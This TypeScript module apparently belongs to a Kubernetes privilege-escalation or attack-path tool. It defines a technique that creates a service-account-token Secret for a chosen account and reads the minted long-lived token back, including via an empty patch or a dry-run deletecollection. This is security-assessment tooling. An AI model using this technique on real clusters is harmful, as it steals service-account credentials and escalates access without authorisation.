import { send } from '../act.ts';
import { need } from '../need.ts';
import type { Permission, Primitive, Way } from '../primitive.ts';
import { PROOF_NAME } from '../rbac-objects.ts';

/** A Secret of this type is filled with a token that never ends (kubernetes/pkg/controller/serviceaccount/tokens_controller.go). */
const TOKEN_TYPE = 'kubernetes.io/service-account-token';

export const mintLegacyToken: Primitive = {
  id: 'mint-legacy-token',
  title: 'has a Secret filled with the token of a service account, and reads it',
  techniques: ['T1528'],
  severity: { cluster: 'high', namespace: 'medium' },
  ways: [way(['get', 'patch'], 'target'), way(['list', 'deletecollection'], 'new')],
};

function way(verbs: readonly string[], object: 'target' | 'new'): Way {
  return {
    needs: [need('create', 'secrets'), need(verbs, 'secrets', object)],
    gives: ({ namespace, targets }) => [
      {
        position: { kind: 'service-accounts', by: 'token', namespace, names: undefined },
        target: targets?.[0] ?? PROOF_NAME,
      },
    ],
    acts: ([create, read], { target, account, namespace }) => {
      if (create === undefined || read === undefined) return [];
      const body = {
        apiVersion: 'v1',
        kind: 'Secret',
        type: TOKEN_TYPE,
        metadata: { name: target, annotations: { 'kubernetes.io/service-account.name': account } },
      };
      return [
        send(create, { says: `makes a token Secret for service account ${namespace}/${account}`, body }),
        send(read, { says: 'reads the token from it', ...reading(read) }),
      ];
    },
  };
}

function reading({ request: { verb } }: Permission): { readonly body?: unknown; readonly query?: string } {
  if (verb === 'patch') return { body: {} };
  return verb === 'deletecollection' ? { query: 'dryRun=All' } : {};
}
